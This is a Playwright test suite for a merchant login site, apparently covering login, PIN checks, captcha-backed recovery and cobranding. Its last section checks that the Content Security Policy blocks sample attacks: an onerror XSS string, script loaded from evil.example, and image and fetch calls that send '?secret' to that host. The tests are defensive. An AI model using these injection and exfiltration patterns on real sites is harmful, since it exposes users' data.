import type { Page } from '@playwright/test';
import { captchaScript } from '#api/offline/stand-in-scripts.ts';
import { expect, message, newestPin, signIn, stoppedFooter, test } from './fixtures.ts';

// A violation is an error of the page, and every test ends with the check that there were none (fixtures.ts).
test.use({ hosting: 'headers' });

/** The captcha as the service delivers it: a small script that loads another by its bare address. */
const captchaLoader = `(function () {
  var script = document.createElement('script');
  script.src = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js' + new URL(document.currentScript.src).search;
  var first = document.getElementsByTagName('script')[0];
  first.parentNode.insertBefore(script, first);
})();`;

/** Its second script makes a Trusted Types policy of its own, as all of Google's do. */
const captchaWidget = `window.trustedTypes && trustedTypes.createPolicy('goog#html', { createHTML: String });\n${captchaScript}`;

async function routeCaptcha(page: Page): Promise<void> {
  const script = (body: string) => ({ contentType: 'text/javascript', body });
  await page.route('https://www.google.com/recaptcha/**', (route) => route.fulfill(script(captchaLoader)));
  await page.route('https://www.gstatic.com/recaptcha/**', (route) => route.fulfill(script(captchaWidget)));
}

/** Violations so far, by directive; for tests that provoke some. */
async function countViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
    Object.assign(window, { violations: seen });
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

test('login and hand-off', async ({ page, server }) => {
  await page.goto('/Login?sp=1');
  await signIn(page, 'merchant');
  await expect(page).toHaveURL(`${server.url}/console?sp=1`);
});

test('a challenged login: PIN by text message', async ({ page, server }) => {
  await page.goto('/');
  await signIn(page, 'challenge');
  await page.getByRole('button', { name: /^Text PIN to/ }).click();
  await page.getByLabel('PIN', { exact: true }).fill(await newestPin(server));
  await page.getByRole('button', { name: 'VERIFY PIN' }).click();
  await expect(page).toHaveURL(/\/console/);
});

test('recovery with a captcha that loads more script', async ({ page, server }) => {
  await routeCaptcha(page);
  await page.goto('/Loginapp/forgot-username');
  await page.getByLabel('First Name').fill('Pat');
  await page.getByLabel('Last Name').fill('Merchant');
  await page.getByLabel('Email').fill('merchant@example.com');
  await page.getByLabel(/robot/).check();
  await page.getByRole('button', { name: 'Continue' }).click();
  await page.getByRole('button', { name: /^Email PIN to/ }).click();
  await page.getByLabel('PIN', { exact: true }).fill(await newestPin(server));
  await page.getByRole('button', { name: 'VERIFY PIN' }).click();
  await expect(message(page, 'LOGIN_USERNAME_RETRIEVED')).toBeVisible();
});

test('activation, with the password checklist', async ({ page, server }) => {
  await page.goto('/userActivation?activationcode=NEW-EMAIL');
  await page.getByRole('button', { name: /^Email PIN to/ }).click();
  await page.getByLabel('PIN', { exact: true }).fill(await newestPin(server));
  await page.getByRole('button', { name: 'VERIFY PIN' }).click();
  await page.getByLabel('New Password', { exact: true }).fill('Activated#20261');
  await page.getByLabel('Confirm Password').fill('Activated#20261');
  await page.getByRole('button', { name: 'ACTIVATE' }).click();
  await expect(page).toHaveURL(/\/console/);
});

test('a brand with logo, colours and footer', async ({ page }) => {
  await page.goto('/?cobrand=harbor');
  await expect(page.getByRole('contentinfo')).toContainText('Harbor');
  await expect(page.getByRole('img')).toHaveJSProperty('complete', true);
});

test.describe('a footer full of attacks', () => {
  test.use({ provoked: stoppedFooter });

  test('is shown without them', async ({ page }) => {
    await page.goto('/?cobrand=hostile');
    await expect(page.getByRole('contentinfo')).toContainText('Hostile');
    await expect(page.getByRole('contentinfo').locator('[style]')).toHaveCount(0);
  });
});

test('the language switch', async ({ page }) => {
  await page.goto('/');
  await page.getByRole('button', { name: 'Español' }).click();
  await expect(page.locator('html')).toHaveAttribute('lang', /^es/);
});

test.describe('what the policy stops', () => {
  // These pages have violations, on purpose.
  test.use({ provoked: /violat|Trusted|blocked|net::ERR/ });

  /** What is tried, and the directives that may stop it: with a default policy the script's host decides. */
  const attacks: readonly (readonly [string, () => void, RegExp?])[] = [
    [
      'inline script',
      () => {
        const script = document.createElement('script');
        script.append('window.attacked = true');
        document.body.append(script);
      },
      // Not run, and not always reported: the default policy has no say over script text.
    ],
    [
      'script of another host by its address',
      () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/a.js';
        document.body.append(script);
      },
      /^(require-trusted-types-for|script-src-elem)$/,
    ],
    [
      'an imported module of another host',
      () => void import('https://evil.example/a.js' as string).catch(() => undefined),
      /^script-src-elem$/,
    ],
    [
      'a picture that calls home by http',
      () => {
        new Image().src = 'http://evil.example/?secret';
      },
      /^img-src$/,
    ],
    [
      'a call to another host',
      () => void fetch('https://evil.example/?secret').catch(() => undefined),
      /^connect-src$/,
    ],
    [
      'HTML from text',
      () => {
        document.body.innerHTML = '<img src=x onerror="window.attacked = true">';
      },
      /^(require-trusted-types-for|script-src-elem)$/,
    ],
    [
      'a form to another host',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      },
      /^form-action$/,
    ],
  ];
  for (const [name, attack, directive] of attacks) {
    test(name, async ({ page, server }) => {
      const violations = await countViolations(page);
      await page.goto('/');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await page.evaluate(attack).catch(() => undefined);
      if (directive !== undefined)
        await expect.poll(violations).toContainEqual(expect.stringMatching(directive));
      expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
      expect(page.url()).toBe(`${server.url}/`);
    });
  }

  test('being framed', async ({ page, server }) => {
    await page.route('https://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/"></iframe>` }),
    );
    await page.goto('https://evil.example/');
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toContain('chrome-error://chromewebdata/');
    await expect(page.frameLocator('iframe').getByLabel('Username')).toHaveCount(0);
  });
});
